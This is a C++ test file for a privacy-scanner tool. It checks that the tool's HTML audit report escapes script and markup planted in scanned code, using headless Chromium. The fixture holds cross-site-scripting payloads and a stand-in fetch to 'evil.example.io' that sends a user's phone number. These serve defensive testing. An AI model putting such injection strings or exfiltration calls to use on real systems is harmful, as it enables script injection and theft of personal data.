// The audit report in a real browser: headless Chromium loads the HTML of a
// scan whose code plants script and markup in every string that reaches the
// report; the data map renders and nothing from the scanned code runs.
#include <doctest/doctest.h>

#include <fstream>
#include <sstream>

#include "tests/app/required_tool.h"
#include "tests/app/run_binary.h"
#include "tests/support/temp_tree.h"

using namespace ps::test;

namespace {
const std::string kChromium = "/usr/bin/chromium";

std::string dump_dom(const std::string& html, const TempTree& t) {
  std::string out = (t.root() / "dom.html").string();
  std::string profile = (t.root() / "profile").string();
  std::string cmd = shell_quote(kChromium) +
                    " --headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
                    " --disable-component-update --disable-sync --user-data-dir=" + shell_quote(profile) +
                    " --virtual-time-budget=2000 --dump-dom " + shell_quote("file://" + html) + " > " + shell_quote(out) + " 2>/dev/null";
  REQUIRE(std::system(cmd.c_str()) == 0);
  std::ifstream in(out);
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}
}  // namespace

TEST_CASE("the HTML audit report renders the data map and runs no script from scanned code") {
  if (!require_tool(kChromium, "chromium")) return;
  TempTree t;
  t.write("privacy.yaml", R"(schema: policyscan/1
practices:
  - {id: p1, do: collect, data: [user.contact.email], quote: "We collect <b>your</b> email <script>document.title='PWNED-POLICY'</script>"}
)");
  t.write("src/<img src=x onerror=document.title='PWNED-PATH'>.js",
          "console.log(\"<script>document.title='PWNED-CODE'</script>\", user.email);\n"
          "fetch('https://evil.example.io/<svg onload=document.title=1>', {body: user.phoneNumber});\n");
  std::string html = (t.root() / "audit.html").string();
  auto r = run_policyscan("scan " + shell_quote(t.root().string()) + " --policy " + shell_quote((t.root() / "privacy.yaml").string()) +
                          " --format html --fail-on none -q -o " + shell_quote(html));
  REQUIRE(r.code == 0);
  std::string dom = dump_dom(html, t);
  REQUIRE_FALSE(dom.empty());
  // Nothing ran: the title is ours, and no element from the scanned code exists.
  CHECK(dom.find("<title>policyscan audit") != std::string::npos);
  CHECK(dom.find("<script") == std::string::npos);
  CHECK(dom.find("<img src=\"x\"") == std::string::npos);
  CHECK(dom.find("<svg") == std::string::npos);
  // The hostile text is shown as text.
  CHECK(dom.find("&lt;script&gt;document.title='PWNED-CODE'&lt;/script&gt;") != std::string::npos);
  // The data map rendered: its table with a category row and the first-party column.
  CHECK(dom.find("id=\"data-map\"") != std::string::npos);
  CHECK(dom.find("<code>user.contact.email</code></th>") != std::string::npos);
  CHECK(dom.find("<th>we</th>") != std::string::npos);
}
